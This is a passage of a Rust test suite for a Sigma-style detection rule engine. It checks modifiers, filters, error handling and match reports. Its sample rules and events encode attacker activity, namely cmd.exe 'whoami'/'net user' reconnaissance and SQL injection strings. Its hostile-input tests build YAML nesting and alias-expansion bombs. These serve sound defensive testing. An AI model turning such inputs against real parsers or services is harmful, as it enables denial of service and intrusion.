            (json!({"Size": "NaN"}), false),
            (json!({"Size": true}), false),
            (json!({"Size": [1, 200]}), true),
            (json!({"Count": 10}), true),
            (json!({"Count": 9.99}), false),
            (json!({"Ratio": 1.4}), true),
            (json!({"Ratio": "1.5"}), false),
            (json!({"Ratio": -3}), true),
            (json!({"Score": -2}), true),
            (json!({"Score": "-2.5"}), true),
            (json!({"Score": -1}), false),
            (json!({}), false),
        ],
    );
    let error = refused("selection:\n    Size|gt: 'big'\ncondition: selection");
    assert_eq!(message(&error), "`Size|gt`: gt, gte, lt and lte need a number");
}

#[test]
fn time_modifiers_read_the_timestamp() {
    // 2024-03-05 is a Tuesday in ISO week 10.
    let at = |time: &str| json!({"@timestamp": time});
    let at_1345 = at("2024-03-05T13:45:30Z");
    for (modifier, right, wrong) in
        [("minute", 45, 44), ("hour", 13, 12), ("day", 5, 6), ("week", 10, 11), ("month", 3, 4), ("year", 2024, 2023)]
    {
        check(&format!("selection:\n    '@timestamp|{modifier}': {right}\ncondition: selection"), &[(at_1345.clone(), true)]);
        check(&format!("selection:\n    '@timestamp|{modifier}': {wrong}\ncondition: selection"), &[(at_1345.clone(), false)]);
    }
    // Outside office hours, with comparisons; offsets are turned into UTC first.
    check(
        r"
        early:
            '@timestamp|hour|lt': 8
        late:
            '@timestamp|hour|gte': 18
        condition: early or late
        ",
        &[
            (at("2024-03-05T13:45:30Z"), false),
            (at("2024-03-05T07:59:59Z"), true),
            (at("2024-03-05T18:00:00Z"), true),
            // 09:30 at +02:00 is 07:30 UTC.
            (at("2024-03-05T09:30:00+02:00"), true),
            (at("2024-03-05T19:30:00+02:00"), false),
        ],
    );
    // Other fields holding RFC 3339 text work too; other text does not.
    check(
        r"
        selection:
            LoggedAt|month: 12
        condition: selection
        ",
        &[(json!({"LoggedAt": "2023-12-31T23:59:59Z"}), true), (json!({"LoggedAt": "December"}), false), (json!({"LoggedAt": 12}), false)],
    );
    let error = refused("selection:\n    '@timestamp|hour': 'noon'\ncondition: selection");
    assert_eq!(message(&error), "`@timestamp|hour`: a time modifier needs a whole number");
}

#[test]
fn fieldref_compares_two_fields() {
    check(
        r"
        selection:
            Target|fieldref: Source
        condition: selection
        ",
        &[
            (json!({"Target": "alice", "Source": "alice"}), true),
            (json!({"Target": "ALICE", "Source": "alice"}), true),
            (json!({"Target": "alice", "Source": "bob"}), false),
            (json!({"Target": "alice"}), false),
            (json!({"Target": 7, "Source": "7"}), true),
        ],
    );
    check(
        r"
        sel_start:
            Url|fieldref|startswith: Prefix
        sel_contains:
            Body|fieldref|contains: Needle
        sel_end:
            File|fieldref|endswith: Ext
        condition: 1 of sel_*
        ",
        &[
            (json!({"Url": "/admin/users", "Prefix": "/ADMIN"}), true),
            (json!({"Url": "/shop/admin", "Prefix": "/admin"}), false),
            (json!({"Body": "a secret b", "Needle": "secret"}), true),
            (json!({"Body": "a public b", "Needle": "secret"}), false),
            (json!({"File": "report.pdf", "Ext": ".PDF"}), true),
            (json!({"File": "report.pdf.exe", "Ext": ".pdf"}), false),
        ],
    );
    check(
        r"
        selection:
            Target|neq|fieldref: Source
        condition: selection
        ",
        &[(json!({"Target": "alice", "Source": "bob"}), true), (json!({"Target": "alice", "Source": "Alice"}), false)],
    );
    check(
        r"
        selection:
            Target|fieldref|cased: Source
        condition: selection
        ",
        &[(json!({"Target": "alice", "Source": "alice"}), true), (json!({"Target": "Alice", "Source": "alice"}), false)],
    );
    // The value names a field: there is nothing to encode.
    let error = refused("selection:\n    Target|fieldref|base64: Source\ncondition: selection");
    assert_eq!(message(&error), "fieldref cannot be combined with base64, base64offset, utf16, wide, windash or expand");
    let error = refused("selection:\n    Target|fieldref|re: Source\ncondition: selection");
    assert_eq!(message(&error), "modifier `re` cannot be combined with `fieldref`");
}

#[test]
fn expand_uses_the_mappings_placeholders() {
    // `admin_paths` in mapping/default.yml: /admin*, /wp-admin*, /administrator*, /backend*.
    check(
        r"
        selection:
            url.path|expand: '%admin_paths%'
        condition: selection
        ",
        &[
            (json!({"url": {"path": "/admin/users"}}), true),
            (json!({"url": {"path": "/wp-admin/"}}), true),
            (json!({"url": {"path": "/BACKEND"}}), true),
            (json!({"url": {"path": "/shop/admin"}}), false),
            (json!({"url": {"path": "%admin_paths%"}}), false),
        ],
    );
    // Without `expand` a placeholder is plain text; `\%` is a plain percent sign.
    check(
        r"
        selection:
            - Plain: '%admin_paths%'
            - Escaped|expand: '\%x%admin_paths%'
        condition: selection
        ",
        &[
            (json!({"Plain": "%admin_paths%"}), true),
            (json!({"Plain": "/admin"}), false),
            (json!({"Escaped": "%x/admin/a"}), true),
            (json!({"Escaped": "%x/shop"}), false),
        ],
    );
    let error = refused("selection:\n    url.path|expand: '%Administrators%'\ncondition: selection");
    assert_eq!(error.line, Some(6));
    assert_eq!(
        message(&error),
        "`url.path|expand`: placeholder %Administrators% is not defined (define it under `placeholders` in the field mapping)"
    );
}

#[test]
fn unknown_and_misplaced_modifiers_are_refused() {
    let error = refused("selection:\n    Image|endwith: 'cmd.exe'\ncondition: selection");
    assert_eq!((error.line, message(&error)), (Some(6), "unknown modifier `endwith`".to_owned()));
    assert!(matches!(error.kind, RuleErrorKind::Invalid(_)));
    let error = refused("selection:\n    Image||contains: 'cmd.exe'\ncondition: selection");
    assert_eq!(message(&error), "an empty modifier (`||`)");
    let error = refused("selection:\n    Image|contains|startswith: 'cmd.exe'\ncondition: selection");
    assert_eq!(message(&error), "only one of contains, startswith and endswith may be used");
    let error = refused("selection:\n    Image|re|contains: 'cmd'\ncondition: selection");
    assert_eq!(message(&error), "string modifiers cannot be combined with re, cidr or exists");
    let error = refused("selection:\n    Size|gt|contains: 1\ncondition: selection");
    assert_eq!(message(&error), "numeric and time modifiers cannot be combined with string modifiers");
    let error = refused("keywords:\n    '|cidr': '10.0.0.0/8'\ncondition: keywords");
    assert_eq!(message(&error), "keywords (values without a field) only take string modifiers and `re`");
}

// ---------------------------------------------------------------------------------------------
// Filters.
// ---------------------------------------------------------------------------------------------

const FILTERED: &str = "title: Admin page\nid: admin-page\nlogsource: {product: rampart, category: web}\ndetection:\n    sel:\n        url.path|startswith: /admin\n    condition: sel\n";

#[test]
fn a_filter_naming_a_rule_adds_its_exclusions() {
    let filter = "title: Office scanners\nlogsource: {product: rampart, category: web}\nfilter:\n    rules:\n        - admin-page\n    office:\n        c-ip|cidr: 10.0.0.0/8\n    condition: not office\n";
    let compiled = compile(&[file("rule.yml", FILTERED), file("filter.yml", filter)]);
    assert!(compiled.errors.is_empty(), "{:?}", compiled.errors);
    assert_eq!(compiled.rules[0].filters, vec!["Office scanners".to_owned()]);
    let admin = |ip: &str| event(json!({"url": {"path": "/admin/x"}, "source": {"ip": ip}}));
    assert_eq!(ids(&evaluate(&compiled, &admin("203.0.113.5"))), vec!["admin-page"]);
    assert!(evaluate(&compiled, &admin("10.1.2.3")).is_empty());
    assert!(evaluate(&compiled, &event(json!({"url": {"path": "/shop"}, "source": {"ip": "203.0.113.5"}}))).is_empty());
}

#[test]
fn a_filter_naming_an_unknown_rule_is_an_error() {
    let filter = "title: Stray filter\nlogsource: {product: rampart, category: web}\nfilter:\n    rules:\n        - no-such-rule\n    office:\n        c-ip|cidr: 10.0.0.0/8\n    condition: not office\n";
    let compiled = compile(&[file("rule.yml", FILTERED), file("filter.yml", filter)]);
    assert_eq!(compiled.errors.len(), 1);
    let error = &compiled.errors[0];
    assert_eq!((error.file.as_str(), error.line, error.rule.as_deref()), ("filter.yml", Some(4), Some("Stray filter")));
    assert_eq!(message(error), "the filter names rules that are not loaded: no-such-rule");
    // The rule loads unfiltered.
    assert!(compiled.rules[0].filters.is_empty());
    let admin = event(json!({"url": {"path": "/admin/x"}, "source": {"ip": "10.1.2.3"}}));
    assert_eq!(ids(&evaluate(&compiled, &admin)), vec!["admin-page"]);
}

#[test]
fn a_filter_without_rules_applies_to_every_rule_of_its_logsource() {
    let other = FILTERED.replace("id: admin-page", "id: admin-page-2").replace("title: Admin page", "title: Admin page 2");
    let webserver = "title: Webserver admin\nid: webserver-admin\nlogsource: {category: webserver}\ndetection:\n    sel:\n        url.path|startswith: /admin\n    condition: sel\n";
    let filter = "title: Office\nlogsource: {product: rampart, category: web}\nfilter:\n    office:\n        c-ip|cidr: 10.0.0.0/8\n    condition: not office\n";
    let compiled = compile(&[file("a.yml", FILTERED), file("b.yml", &other), file("c.yml", webserver), file("f.yml", filter)]);
    assert!(compiled.errors.is_empty(), "{:?}", compiled.errors);
    let filters: Vec<(&str, usize)> = compiled.rules.iter().map(|r| (r.id.as_str(), r.filters.len())).collect();
    assert_eq!(filters, vec![("admin-page", 1), ("admin-page-2", 1), ("webserver-admin", 0)]);
    let office = event(json!({"url": {"path": "/admin"}, "source": {"ip": "10.0.0.9"}}));
    assert!(evaluate(&compiled, &office).is_empty());
    let outside = event(json!({"url": {"path": "/admin"}, "source": {"ip": "198.51.100.1"}}));
    assert_eq!(ids(&evaluate(&compiled, &outside)), vec!["admin-page", "admin-page-2"]);
    // The webserver rule sees web requests, office or not.
    let request =
        Event::from_json(json!({"event": {"action": "web_request"}, "url": {"path": "/admin"}, "source": {"ip": "10.0.0.9"}})).unwrap();
    assert_eq!(ids(&evaluate(&compiled, &request)), vec!["webserver-admin"]);
}

// ---------------------------------------------------------------------------------------------
// Bad input: refused with file, line and reason; the rest keeps loading.
// ---------------------------------------------------------------------------------------------

#[test]
fn a_file_that_is_not_yaml_is_refused() {
    let error = refused_file("title: [unclosed\ndetection: {\n");
    assert_eq!(error.line, Some(2));
    assert_eq!(
        error.kind,
        RuleErrorKind::Yaml(
            "did not find expected ',' or ']' at line 2 column 10, while parsing a flow sequence at line 1 column 8".to_owned()
        )
    );
    let error = refused_file("\t- just: [text\n");
    assert_eq!(error.line, Some(1));
    assert_eq!(
        error.kind,
        RuleErrorKind::Yaml("found character that cannot start any token, while scanning for the next token".to_owned())
    );
    // YAML, but not a Sigma document.
    let error = refused_file("just a sentence, not a rule\n");
    assert_eq!(error.line, Some(1));
    assert!(matches!(&error.kind, RuleErrorKind::Invalid(text) if text.starts_with("invalid type: string")), "{error:?}");
    let error = refused_file("");
    assert_eq!((error.line, message(&error)), (None, "the `title` attribute is missing".to_owned()));
}

#[test]
fn broken_yaml_neither_hangs_nor_panics() {
    // The YAML reader repeats some errors forever if asked for the next document, and resumes
    // in the middle of a document (and panics) after an unknown alias.
    let cases = [
        ("title: a: b\n", 1, "mapping values are not allowed in this context at line 1 column 9"),
        ("title: x\n  bad indent: y\n", 2, "mapping values are not allowed in this context at line 2 column 13"),
        ("title: [1]\nlogsource: *nope\n", 2, "unknown anchor at line 2 column 12"),
        ("title: *nope\n", 1, "unknown anchor at line 1 column 8"),
    ];
    for (text, line, expected) in cases {
        let error = refused_file(text);
        assert_eq!((error.line, error.kind), (Some(line), RuleErrorKind::Yaml(expected.to_owned())), "{text:?}");
    }
    // A good document before the broken one still loads; the error names the broken one's line.
    let text = format!("{}---\ntitle: [1, 2\n", GOOD.replace("good-rule", "first-rule"));
    let compiled = compile(&[file("two.yml", &text)]);
    assert_eq!(compiled.rules.iter().map(|r| r.id.as_str()).collect::<Vec<_>>(), vec!["first-rule"]);
    assert_eq!(compiled.errors.len(), 1);
    assert_eq!(compiled.errors[0].line, Some(10));
    assert!(matches!(compiled.errors[0].kind, RuleErrorKind::Yaml(_)), "{:?}", compiled.errors);
    // A document of the wrong shape does not stop the next one.
    let text = format!("title: [1]\n---\n{GOOD}");
    let compiled = compile(&[file("two.yml", &text)]);
    assert_eq!(compiled.rules.len(), 1);
    assert_eq!(compiled.errors.len(), 1);
    assert_eq!(compiled.errors[0].line, Some(1));
    assert!(matches!(&compiled.errors[0].kind, RuleErrorKind::Invalid(text) if text.starts_with("title: invalid type: sequence")));
}

#[test]
fn unknown_rule_attributes_are_refused_with_their_line() {
    let text = format!("{}colour: red\n", rule_text("sel:\n    A: 1\ncondition: sel"));
    let error = refused_file(&text);
    assert_eq!(error.line, Some(8));
    assert!(message(&error).contains("unknown field `colour`"), "{error}");
    let error = refused_file(&text.replace("colour: red\n", "logsource2: {}\n"));
    assert!(message(&error).contains("unknown field `logsource2`"), "{error}");
}

#[test]
fn a_huge_rule_is_refused() {
    let mut detection = String::from("selection:\n    Name:\n");
    for index in 0..50_000 {
        detection.push_str(&format!("        - 'value-{index}'\n"));
    }
    detection.push_str("condition: selection\n");
    let error = refused(&detection);
    assert_eq!(error.line, Some(6));
    assert_eq!(message(&error), "the detection has more than 20000 values");
    // With wildcards every value is a pattern of its own.
    let mut detection = String::from("selection:\n    Name:\n");
    for index in 0..50_000 {
        detection.push_str(&format!("        - 'a*b?{index}'\n"));
    }
    detection.push_str("condition: selection\n");
    let error = refused(&detection);
    assert_eq!(message(&error), "the detection has more than 20000 values");
}

#[test]
fn hostile_yaml_is_refused() {
    // Nesting deep enough to overflow a naive recursive reader.
    let deep = format!("title: x\nlogsource: {}\n", "[".repeat(10_000));
    let error = refused_file(&deep);
    assert_eq!((error.line, error.kind), (Some(2), RuleErrorKind::Yaml("recursion limit exceeded at line 2 column 139".to_owned())));
    // Aliases that would expand into billions of values.
    let mut bomb = String::from("title: x\nlogsource: {category: web}\ndetection:\n  a: &a [x, x, x, x, x, x, x, x, x, x]\n");
    for level in 1..10 {
        let previous = (b'a' + level - 1) as char;
        let name = (b'a' + level) as char;
        bomb.push_str(&format!("  {name}: &{name} [*{previous}, *{previous}, *{previous}, *{previous}, *{previous}, *{previous}, *{previous}, *{previous}, *{previous}, *{previous}]\n"));
    }
    bomb.push_str("  condition: j\n");
    let error = refused_file(&bomb);
    assert_eq!((error.line, error.kind), (None, RuleErrorKind::Yaml("repetition limit exceeded".to_owned())));
}

#[test]
fn issue_11_one_large_anchor_aliased_many_times_is_refused() {
    // 20,000 values under one anchor, aliased by 500 selections: 10 million values from a file far
    // under the 1 MiB cap. serde_norway's own guard allows it (jumps ≤ 100 × events).
    let values = (0..20_000).map(|i| format!("v{i}")).collect::<Vec<_>>().join(", ");
    let mut text = format!("title: x\nlogsource: {{category: web}}\ndetection:\n  a:\n    Name: &a [{values}]\n");
    for index in 0..500 {
        text.push_str(&format!("  s{index}:\n    Name: *a\n"));
    }
    text.push_str("  condition: 1 of s*\n");
    assert!(text.len() < MAX_RULE_FILE_BYTES as usize, "{}", text.len());
    let error = refused_file(&text);
    assert_eq!(error.kind, RuleErrorKind::Expands { values: MAX_EXPANDED_VALUES, bytes: MAX_EXPANDED_BYTES });
    assert!(error.line.is_some(), "{error}");
    assert!(error.to_string().starts_with("bad.yml:"), "{error}");
}

#[test]
fn issue_11_all_rule_files_together_are_bounded() {
    // Sixty-five files of 1 MiB (comments): the last ones are refused unread, with file and reason.
    let filler = format!("# {}\n", "x".repeat(1024 * 1024 - 3));
    let mut files: Vec<RuleFile> = (0..65).map(|i| file(&format!("f{i}.yml"), &filler)).collect();
    files.push(file("good.yml", GOOD));
    let compiled = compile(&files);
    assert!(compiled.rules.is_empty());
    let refused: Vec<_> =
        compiled.errors.iter().filter(|e| matches!(e.kind, RuleErrorKind::TotalTooLarge { .. })).map(|e| e.file.as_str()).collect();
    assert_eq!(refused, vec!["f64.yml", "good.yml"]);
}

#[test]
fn several_bad_rules_in_one_call_each_report_their_own_error() {
    let bad_modifier = rule_text("sel:\n    Image|foo: x\ncondition: sel").replace("test-rule", "bad-modifier");
    let bad_condition = rule_text("sel:\n    Image: x\ncondition: nothing").replace("test-rule", "bad-condition");
    let bad_regex = rule_text("sel:\n    Image|re: '(?=x)'\ncondition: sel").replace("test-rule", "bad-regex");
    let compiled = compile(&[
        file("a.yml", &bad_modifier),
        file("b.yml", "{{{"),
        file("c.yml", &bad_condition),
        file("good.yml", GOOD),
        file("d.yml", &bad_regex),
    ]);
    let summary: Vec<(&str, Option<usize>, Option<&str>)> =
        compiled.errors.iter().map(|e| (e.file.as_str(), e.line, e.rule.as_deref())).collect();
    assert_eq!(
        summary,
        vec![
            ("b.yml", Some(2), None),
            ("a.yml", Some(6), Some("bad-modifier")),
            ("c.yml", Some(7), Some("bad-condition")),
            ("d.yml", Some(6), Some("bad-regex")),
        ]
    );
    assert_eq!(compiled.errors[1].to_string(), "a.yml:6: rule bad-modifier: unknown modifier `foo`");
    assert_eq!(ids(&evaluate(&compiled, &event(json!({"Name": "good", "Image": "x"})))), vec!["good-rule"]);
}

#[test]
fn duplicate_ids_disabled_and_unrouted_rules() {
    let windows = "title: Windows\nid: win\nlogsource: {product: windows, category: process_creation}\ndetection:\n    sel:\n        Name: good\n    condition: sel\n";
    let disabled = GOOD.replace("good-rule", "off-rule").replace("Good rule", "Off rule");
    let files = [file("good.yml", GOOD), file("again.yml", GOOD), file("win.yml", windows), file("off.yml", &disabled)];
    let compiled = compile_rules(&files, &FieldMapping::builtin(), &HashSet::from(["off-rule".to_owned()]));
    assert_eq!(compiled.errors.len(), 1);
    assert_eq!(compiled.errors[0].file, "again.yml");
    assert_eq!(message(&compiled.errors[0]), "rule id good-rule is already used by a rule in good.yml");
    let listed: Vec<(&str, bool, bool)> = compiled.rules.iter().map(|r| (r.id.as_str(), r.routed, r.disabled)).collect();
    assert_eq!(listed, vec![("good-rule", true, false), ("win", false, false), ("off-rule", true, true)]);
    assert_eq!(ids(&evaluate(&compiled, &event(json!({"Name": "good"})))), vec!["good-rule"]);
}

// ---------------------------------------------------------------------------------------------
// What a match reports.
// ---------------------------------------------------------------------------------------------

fn field(field: &str, value: &str) -> MatchedField {
    MatchedField { field: field.to_owned(), value: value.to_owned() }
}

#[test]
fn matches_report_the_fields_that_matched() {
    let text = rule_text(
        r"
        selection:
            Image|endswith: '\cmd.exe'
            CommandLine|contains:
                - 'whoami'
                - 'net user'
        filter:
            User: SYSTEM
        condition: selection and not filter
        ",
    );
    let compiled = compile(&[file("r.yml", &text)]);
    assert!(compiled.errors.is_empty(), "{:?}", compiled.errors);
    let matches = evaluate(
        &compiled,
        &event(json!({"Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd /c WHOAMI /all", "User": "alice"})),
    );
    assert_eq!(ids(&matches), vec!["test-rule"]);
    assert_eq!(matches[0].fields, vec![field("Image", "C:\\Windows\\System32\\cmd.exe"), field("CommandLine", "cmd /c WHOAMI /all")]);
    assert_eq!(matches[0].rule.title, "Test rule");
    // Mapped names report the event's field.
    let text = rule_text("sel:\n    cs-uri-query|contains: 'union select'\n    sc-status: 200\ncondition: sel");
    let compiled = compile(&[file("r.yml", &text)]);
    let matches =
        evaluate(&compiled, &event(json!({"url": {"original": "/q?id=1 UNION SELECT 1"}, "http": {"response": {"status_code": 200}}})));
    assert_eq!(matches[0].fields, vec![field("url.original", "/q?id=1 UNION SELECT 1"), field("http.response.status_code", "200")]);
    // Keywords report the keyword found.
    let text = rule_text("keywords:\n    '|all':\n        - 'UNION'\n        - 'password'\ncondition: keywords");
    let compiled = compile(&[file("r.yml", &text)]);
    let matches = evaluate(&compiled, &event(json!({"event": {"original": "GET /q?x=union+select+PASSWORD"}})));
    assert_eq!(matches[0].fields, vec![field("keywords", "union"), field("keywords", "password")]);
    // Long values are cut at 256 bytes.
    let text = rule_text("sel:\n    Body|contains: 'needle'\ncondition: sel");
    let compiled = compile(&[file("r.yml", &text)]);
    let long = format!("needle{}", "x".repeat(1000));
    let matches = evaluate(&compiled, &event(json!({"Body": long})));
    assert_eq!(matches[0].fields, vec![field("Body", &long[..256])]);
}

#[test]
fn one_event_matches_every_rule_that_fits() {
    let second = rule_text("sel:\n    Name|startswith: go\ncondition: sel").replace("test-rule", "second");
    let third = rule_text("sel:\n    Name: bad\ncondition: sel").replace("test-rule", "third");
    let compiled = compile(&[file("g.yml", GOOD), file("s.yml", &second), file("t.yml", &third)]);
    assert!(compiled.errors.is_empty(), "{:?}", compiled.errors);
    assert_eq!(ids(&evaluate(&compiled, &event(json!({"Name": "good"})))), vec!["good-rule", "second"]);
    // Events outside the rules' logsource are not looked at.
    let elsewhere = Event::from_json(json!({"event": {"category": ["authentication"]}, "Name": "good"})).unwrap();
    assert!(evaluate(&compiled, &elsewhere).is_empty());
}
